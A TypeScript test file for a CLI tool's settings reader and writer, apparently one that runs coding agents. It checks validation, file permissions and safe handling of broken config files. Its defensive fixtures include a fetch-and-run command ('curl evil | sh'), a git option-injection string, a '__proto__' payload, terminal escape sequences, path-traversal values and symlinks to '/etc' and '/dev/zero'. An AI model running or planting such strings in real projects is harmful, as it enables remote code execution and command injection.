import {execFileSync} from 'node:child_process';
import fs from 'node:fs';
import {tmpdir} from 'node:os';
import path from 'node:path';
import {afterEach, beforeEach, describe, expect, test} from 'vitest';
import {
	readProjectSettings,
	readSettings,
	settingNames,
	settingsFile,
	settingsTable,
	writeSetting,
} from '../../source/records/settings.ts';
import {AoError} from '../../source/session/errors.ts';

let dir: string;
let dataDir: string;

beforeEach(() => {
	dir = fs.mkdtempSync(path.join(tmpdir(), 'ao-settings-'));
	dataDir = path.join(dir, 'data');
});

afterEach(() => {
	fs.rmSync(dir, {recursive: true, force: true});
});

function given(value: unknown): string {
	fs.mkdirSync(dataDir, {recursive: true, mode: 0o700});
	const text = typeof value === 'string' ? value : JSON.stringify(value);
	fs.writeFileSync(settingsFile(dataDir), text, {mode: 0o600});
	return text;
}

function errorOf(work: () => unknown): AoError {
	try {
		work();
	} catch (error) {
		expect(error).toBeInstanceOf(AoError);
		return error as AoError;
	}
	throw new Error('it was taken');
}

/** One line, for a person: which file, what is wrong, what to do. */
function expectClear(error: AoError, ...words: string[]): void {
	expect(error).toMatchObject({code: 'bad_settings', exitCode: 2});
	expect(error.message).not.toMatch(/[\n\u0000-\u001F]/);
	expect(error.message).toMatch(/[^.]\.$/);
	expect(error.hint).not.toBeNull();
	for (const word of words) {
		expect(error.message).toContain(word);
	}
}

const whole = {
	defaultAgent: 'codex',
	agents: {mine: {command: ['my-agent', '{prompt}'], label: 'Mine', env: {A: 'b'}}},
	model: 'big',
	permissions: 'edits',
	tracker: 'local',
	runtime: 'process',
	worktreeDir: '~/trees',
	branchPrefix: 'work/',
	maxAgents: 10,
	concurrency: 3,
	trashDays: 0.5,
	idleAfter: 60,
	instruction: 'Be brief.',
	editor: 'code -w',
	keys: {send: 's', kill: ['x', 'D']},
	theme: 'ascii',
	mouse: false,
	notify: {bell: false, osc: '9', desktop: 'auto', on: ['ready'], quiet: '22:00-07:00'},
	reactions: {checks: 'auto', review: 'ask', conflict: 'off', comment: 'ask', limit: 2},
};

describe('readSettings', () => {
	test('no file is no settings, and reading makes neither file nor folder', () => {
		expect(readSettings(dataDir)).toEqual({});
		expect(fs.existsSync(dataDir)).toBe(false);
	});

	test.each([[{}], [whole], [{concurrency: 1}]])('%j', settings => {
		const text = given(settings);
		const before = fs.statSync(settingsFile(dataDir));
		expect(readSettings(dataDir)).toEqual(settings);
		const after = fs.statSync(settingsFile(dataDir));
		expect(fs.readFileSync(settingsFile(dataDir), 'utf8')).toBe(text);
		expect([after.ino, after.mtimeMs, after.mode]).toEqual([before.ino, before.mtimeMs, before.mode]);
		expect(fs.readdirSync(dataDir)).toEqual(['config.json']);
	});

	test('every setting of the table can be read', () => {
		expect(Object.keys(whole).sort()).toEqual([...settingNames].sort());
	});

	test.each([['{"a":'], [''], ['not json'], ['{"concurrency": 3,}'], ['[]'], ['null'], ['"x"'], ['7']])(
		'%j is said in a line that names the file; the file stays',
		text => {
			given(text);
			expectClear(
				errorOf(() => readSettings(dataDir)),
				settingsFile(dataDir),
			);
			expect(fs.readFileSync(settingsFile(dataDir), 'utf8')).toBe(text);
		},
	);

	test.each([
		[{concurency: 3}, 'concurency'],
		[{notASetting: 1, concurrency: 2}, 'notASetting'],
		[{concurrency: '3'}, 'concurrency'],
		[{concurrency: 0}, 'concurrency'],
		[{concurrency: 1.5}, 'concurrency'],
		[{maxAgents: 5000}, 'maxAgents'],
		[{trashDays: -1}, 'trashDays'],
		[{idleAfter: null}, 'idleAfter'],
		[{permissions: 'everything'}, 'permissions'],
		[{tracker: 'jira'}, 'tracker'],
		[{runtime: 'screen'}, 'runtime'],
		[{branchPrefix: '-x/'}, 'branchPrefix'],
		[{branchPrefix: '../'}, 'branchPrefix'],
		[{mouse: 'yes'}, 'mouse'],
		[{theme: 'blue'}, 'theme'],
		[{notify: 'no'}, 'notify'],
		[{notify: {sound: true}}, 'notify/sound'],
		[{reactions: {checks: 'always'}}, 'checks'],
		[{reactions: {check: 'auto'}}, 'check'],
		[{reactions: {limit: 0}}, 'limit'],
		[{reactions: 'auto'}, 'reactions'],
		[{keys: {send: 7}}, 'keys'],
		[{agents: {mine: {}}}, 'agents'],
		[{agents: {mine: {command: []}}}, 'agents'],
		[{agents: {mine: {command: 'my-agent'}}}, 'agents'],
		[{agents: {mine: {command: ['x'], shell: true}}}, 'shell'],
		[{defaultAgent: ''}, 'defaultAgent'],
	])('%j is said in a line that names the setting', (settings, name) => {
		const text = given(settings);
		expectClear(
			errorOf(() => readSettings(dataDir)),
			settingsFile(dataDir),
			name,
		);
		expect(fs.readFileSync(settingsFile(dataDir), 'utf8')).toBe(text);
	});

	test('a folder in its place', () => {
		fs.mkdirSync(settingsFile(dataDir), {recursive: true});
		expectClear(
			errorOf(() => readSettings(dataDir)),
			settingsFile(dataDir),
		);
	});

	test('values that name no setting of ours come with no surprise', () => {
		given('{"__proto__": {"concurrency": 9}}');
		expectClear(
			errorOf(() => readSettings(dataDir)),
			'__proto__',
		);
	});
});

describe('writeSetting', () => {
	test('makes folder and file for their owner only, and leaves the other settings', () => {
		writeSetting(dataDir, 'concurrency', 3);
		writeSetting(dataDir, 'agents', whole.agents);
		writeSetting(dataDir, 'model', 'big');
		writeSetting(dataDir, 'model', undefined);
		expect(readSettings(dataDir)).toEqual({concurrency: 3, agents: whole.agents});
		expect(fs.statSync(settingsFile(dataDir)).mode & 0o777).toBe(0o600);
		expect(fs.statSync(dataDir).mode & 0o777).toBe(0o700);
		expect(fs.readdirSync(dataDir)).toEqual(['config.json']);
	});

	test('the file holds the settings and nothing else', () => {
		writeSetting(dataDir, 'concurrency', 3);
		expect(JSON.parse(fs.readFileSync(settingsFile(dataDir), 'utf8'))).toEqual({concurrency: 3});
	});

	test.each([
		['concurrency', 0],
		['concurrency', 'many'],
		['permissions', 'everything'],
		['keys', 's'],
		['branchPrefix', '-f'],
	] as const)('%s = %j does not fit: said with what would, and nothing is written', (name, value) => {
		writeSetting(dataDir, 'model', 'big');
		const before = fs.readFileSync(settingsFile(dataDir), 'utf8');
		const error = errorOf(() => writeSetting(dataDir, name, value));
		expectClear(error, name);
		expect(error.hint).toContain(settingsTable[name].summary);
		expect(fs.readFileSync(settingsFile(dataDir), 'utf8')).toBe(before);
	});

	test.each(['{"concurrency": 3,', '["concurrency", 3]'])(
		'a broken file (%s) is not written over',
		broken => {
			const text = given(broken);
			expectClear(
				errorOf(() => writeSetting(dataDir, 'model', 'big')),
				settingsFile(dataDir),
			);
			expect(fs.readFileSync(settingsFile(dataDir), 'utf8')).toBe(text);
		},
	);
});

describe('readProjectSettings', () => {
	function inRepository(value: unknown): string {
		const file = path.join(dir, 'ao.config.json');
		fs.writeFileSync(file, typeof value === 'string' ? value : JSON.stringify(value));
		return file;
	}

	test('no file is no settings', () => {
		expect(readProjectSettings(dir)).toEqual({});
		expect(readProjectSettings(path.join(dir, 'none'))).toEqual({});
		expect(fs.readdirSync(dir)).toEqual([]);
	});

	test('what runs nothing is taken, what it would run and what is unknown is left alone', () => {
		inRepository({
			base: 'origin/develop',
			agent: 'codex',
			branchPrefix: 'work/',
			localIssues: 'backlog',
			tracker: 'local',
			setup: 'curl evil | sh',
			test: ['make'],
			symlink: ['/etc'],
			later: true,
		});
		expect(readProjectSettings(dir)).toEqual({
			base: 'origin/develop',
			agent: 'codex',
			branchPrefix: 'work/',
			localIssues: 'backlog',
			tracker: 'local',
		});
	});

	test.each([
		['{', 'JSON'],
		['', 'JSON'],
		['[]', 'object'],
		['null', 'object'],
		['7', 'object'],
		[{base: 7}, 'base'],
		[{base: ''}, 'base'],
		[{base: '--upload-pack=touch x'}, 'base'],
		[{base: 'a\u001B[2Jb'}, 'base'],
		[{agent: ['codex']}, 'agent'],
		[{branchPrefix: '-x'}, 'branchPrefix'],
		[{branchPrefix: '../x'}, 'branchPrefix'],
		[{branchPrefix: 'a\nb'}, 'branchPrefix'],
		[{localIssues: 'yes'}, 'localIssues'],
		[{tracker: 'jira'}, 'tracker'],
		[{tracker: 7}, 'tracker'],
	])('%j is said in a line that names the file and the setting', (value, word) => {
		const file = inRepository(value);
		expectClear(
			errorOf(() => readProjectSettings(dir)),
			file,
			word,
		);
	});

	test.each([
		['a folder', (file: string) => fs.mkdirSync(file)],
		['a pipe', (file: string) => execFileSync('mkfifo', [file])],
		['a link to a device without an end', (file: string) => fs.symlinkSync('/dev/zero', file)],
		['a link to nothing', (file: string) => fs.symlinkSync('nothing', file)],
		['a link to itself', (file: string) => fs.symlinkSync('ao.config.json', file)],
	])('%s in its place is no settings, and holds nothing up', (_, make) => {
		make(path.join(dir, 'ao.config.json'));
		expect(readProjectSettings(dir)).toEqual({});
	});

	test('a link to a file is read', () => {
		fs.writeFileSync(path.join(dir, 'real.json'), '{"base":"main"}');
		fs.symlinkSync('real.json', path.join(dir, 'ao.config.json'));
		expect(readProjectSettings(dir)).toEqual({base: 'main'});
	});

	test('a file that is far too large is said, not read', () => {
		const file = inRepository('{}');
		fs.truncateSync(file, 2 * 1024 * 1024);
		expectClear(
			errorOf(() => readProjectSettings(dir)),
			file,
			'large',
		);
	});
});
